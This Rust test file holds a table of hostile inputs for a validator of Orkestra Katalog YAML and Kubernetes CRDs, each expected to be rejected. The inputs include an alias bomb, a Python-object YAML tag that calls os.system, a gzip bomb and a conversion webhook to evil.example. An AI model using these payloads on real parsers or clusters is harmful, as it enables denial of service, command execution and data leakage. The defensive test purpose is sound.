//! Katalogs and definitions that readers of YAML disagree on, that unfold, or that want more than a definition may.

use orkestra_pattern::{Severity, Source, check};

use crate::table::{Row, Verdict, all, row};

const KATALOG: &str = "apiVersion: orkestra.orkspace.io/v1
kind: Katalog
metadata: {name: shop, version: 1.0.0}
spec:
  crds:
    shop:
      operatorBox:
        onReconcile:
          configMaps:
            - id: settings
              name: settings
              data: {size: \"1\"}
";

const CRD: &str = "apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: shops.example.com}
spec:
  group: example.com
  scope: Namespaced
  names: {kind: Shop, plural: shops}
  versions:
    - name: v1
      served: true
      storage: true
      subresources: {status: {}}
      schema:
        openAPIV3Schema:
          type: object
          properties:
            spec: {type: object, properties: {size: {type: string}}}
            status:
              type: object
              properties:
                observedGeneration: {type: integer, format: int64}
                conditions: {type: array, items: {type: object, x-kubernetes-preserve-unknown-fields: true}}
";

/// The code of the first error.
fn checked(katalog: &[u8], crd: &[u8]) -> Verdict {
    let source = Source::new().with("katalog.yaml", katalog).with("crd.yaml", crd);
    let (pattern, problems) = check(&source);
    let error = problems.iter().find(|problem| problem.severity == Severity::Error);
    assert_eq!(pattern.is_some(), error.is_none(), "there is a pattern exactly where there is no error");
    error.map_or(Ok(()), |error| Err(error.code.id))
}

fn katalog(from: &str, to: &str) -> Verdict {
    assert!(KATALOG.contains(from));
    checked(KATALOG.replacen(from, to, 1).as_bytes(), CRD.as_bytes())
}

fn data(value: &str) -> Verdict {
    katalog("{size: \"1\"}", value)
}

fn crd(from: &str, to: &str) -> Verdict {
    assert!(CRD.contains(from));
    checked(KATALOG.as_bytes(), CRD.replacen(from, to, 1).as_bytes())
}

fn schema(of_size: &str) -> Verdict {
    crd("{size: {type: string}}", &format!("{{size: {of_size}}}"))
}

fn nested(depth: usize) -> Verdict {
    schema(&format!("{}{{type: string}}{}", "{type: object, properties: {a: ".repeat(depth), "}}".repeat(depth)))
}

/// Anchors that each hold the one before ten times.
fn laughs(times: usize) -> String {
    let mut text = String::from("&a0 {x: y}");
    for n in 1..=times {
        let aliases = vec![format!("*a{}", n - 1); 9].join(", ");
        text = format!("&a{n} [{text}, {aliases}]");
    }
    text
}

pub(crate) fn katalogs() -> Vec<Row> {
    const PLAIN: &str = "with its plain value";
    const SIZE: &str = "{size: \"1\"}";
    vec![
        row(
            "alias-bomb",
            "unfolds aliases of aliases into a thousand million values",
            "K0102",
            || data(&format!("{{size: \"1\"}}\n              labels: {}", laughs(9))),
            "one alias",
            || katalog("{name: shop, version: 1.0.0}", "{name: &n shop, version: 1.0.0, description: *n}"),
        ),
        row(
            "alias-in-itself",
            "has an anchor that holds itself",
            "K0011",
            || data("&a {size: \"1\", more: *a}"),
            PLAIN,
            || data(SIZE),
        ),
        row(
            "merge-key",
            "merges a map into another",
            "K0007",
            || data("{<<: {size: \"2\"}, size: \"1\"}"),
            PLAIN,
            || data(SIZE),
        ),
        row(
            "custom-tag",
            "tags a value, as one of its own kind, as a Python object and as binary",
            "K0006",
            || {
                all(["!secret \"1\"", "!!python/object/apply:os.system [id]", "!!binary aGk="]
                    .map(|value| (value.to_owned(), data(&format!("{{size: {value}}}")))))
            },
            PLAIN,
            || data(SIZE),
        ),
        row(
            "key-twice-in-yaml",
            "gives a key twice",
            "K0005",
            || data("{size: \"1\", size: \"2\"}"),
            PLAIN,
            || data(SIZE),
        ),
        row(
            "key-that-is-a-list",
            "has a list in the place of a key",
            "K0008",
            || data("{[size]: \"1\"}"),
            PLAIN,
            || data(SIZE),
        ),
        row(
            "number-of-two-readings",
            "writes a number that is octal for some readers and decimal for others",
            "K0009",
            || data("{size: 0644}"),
            "in quotes",
            || data("{size: \"0644\"}"),
        ),
        row(
            "second-document",
            "hides a second document behind the first",
            "K0010",
            || checked(format!("{KATALOG}---\n{KATALOG}").as_bytes(), CRD.as_bytes()),
            "has one document",
            || checked(KATALOG.as_bytes(), CRD.as_bytes()),
        ),
        row(
            "yaml-too-deep",
            "nests lists a hundred deep",
            "K0103",
            || data(&format!("{{size: {}1{}}}", "[".repeat(100), "]".repeat(100))),
            PLAIN,
            || data(SIZE),
        ),
        row(
            "yaml-beyond-its-size",
            "has two million bytes of comments",
            "K0101",
            || checked(format!("{KATALOG}# {}\n", "x".repeat(2 << 20)).as_bytes(), CRD.as_bytes()),
            "a thousand",
            || checked(format!("{KATALOG}# {}\n", "x".repeat(1000)).as_bytes(), CRD.as_bytes()),
        ),
        row(
            "zip-bomb",
            "is a gzip file, which nobody inflates, and a text in another encoding",
            "K0002",
            || {
                let gzip = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff][..], &[0xed; 1000]].concat();
                let wide: Vec<u8> = KATALOG.encode_utf16().flat_map(u16::to_le_bytes).collect();
                let wide = [&[0xff, 0xfe][..], &wide].concat();
                all([("gzip", gzip), ("UTF-16", wide)]
                    .map(|(what, bytes)| (what.to_owned(), checked(&bytes, CRD.as_bytes()))))
            },
            "is text in UTF-8",
            || checked(KATALOG.as_bytes(), CRD.as_bytes()),
        ),
    ]
}

pub(crate) fn definitions() -> Vec<Row> {
    vec![
        row(
            "definition-with-a-webhook",
            "sends the objects of its kind to a server of its author's",
            "K0609",
            || {
                crd(
                    "  scope: Namespaced",
                    "  scope: Namespaced\n  conversion: {strategy: Webhook, webhook: {conversionReviewVersions: [v1], clientConfig: {url: \"https://evil.example\"}}}",
                )
            },
            "says nothing of conversions",
            || crd("  scope: Namespaced", "  scope: Namespaced"),
        ),
        row(
            "definition-with-annotations",
            "brings annotations that API servers act on",
            "K0610",
            || {
                crd(
                    "{name: shops.example.com}",
                    "{name: shops.example.com, annotations: {api-approved.kubernetes.io: unapproved}}",
                )
            },
            "brings its name",
            || crd("scope", "scope"),
        ),
        row(
            "definition-with-a-status",
            "says that it is established",
            "K0611",
            || crd("spec:\n  group", "status: {storedVersions: [v1]}\nspec:\n  group"),
            "leaves that to the API server",
            || crd("scope", "scope"),
        ),
        row(
            "definition-in-a-group-of-kubernetes",
            "defines a kind in a group that is Kubernetes' own",
            "K0612",
            || {
                all(["apps.k8s.io", "rbac.authorization.k8s.io", "x.kubernetes.io"].map(|group| {
                    (group.to_owned(), checked(KATALOG.as_bytes(), CRD.replace("example.com", group).as_bytes()))
                }))
            },
            "in a group of its own",
            || crd("scope", "scope"),
        ),
        row(
            "definition-with-a-taken-name",
            "takes the short name of pods and of services",
            "K0613",
            || {
                all(["po", "svc"].map(|name| {
                    (name.to_owned(), crd("plural: shops}", &format!("plural: shops, shortNames: [{name}]}}")))
                }))
            },
            "one that is free",
            || crd("plural: shops}", "plural: shops, shortNames: [shp]}"),
        ),
        row(
            "definition-among-all",
            "shows its objects in `kubectl get all`",
            "K0614",
            || crd("plural: shops}", "plural: shops, categories: [all]}"),
            "in a category of its own",
            || crd("plural: shops}", "plural: shops, categories: [shopping]}"),
        ),
        row(
            "definition-too-deep",
            "has a schema that nests deeper than values may",
            "K0103",
            || nested(70),
            "ten objects deep",
            || nested(10),
        ),
        row(
            "definition-of-many-fields",
            "has a schema of eleven thousand fields",
            "K0109",
            || {
                let fields: Vec<_> = (0..11_000).map(|n| format!("f{n}: {{type: string}}")).collect();
                schema(&format!("{{type: object, properties: {{{}}}}}", fields.join(", ")))
            },
            "of a hundred",
            || {
                let fields: Vec<_> = (0..100).map(|n| format!("f{n}: {{type: string}}")).collect();
                schema(&format!("{{type: object, properties: {{{}}}}}", fields.join(", ")))
            },
        ),
        row(
            "definition-of-no-schema",
            "is no definition, or one whose schema cannot be read",
            "K0602",
            || all(["{type: text}", "{type: [string]}"].map(|of| (of.to_owned(), schema(of)))),
            "with a type",
            || schema("{type: string}"),
        ),
    ]
}
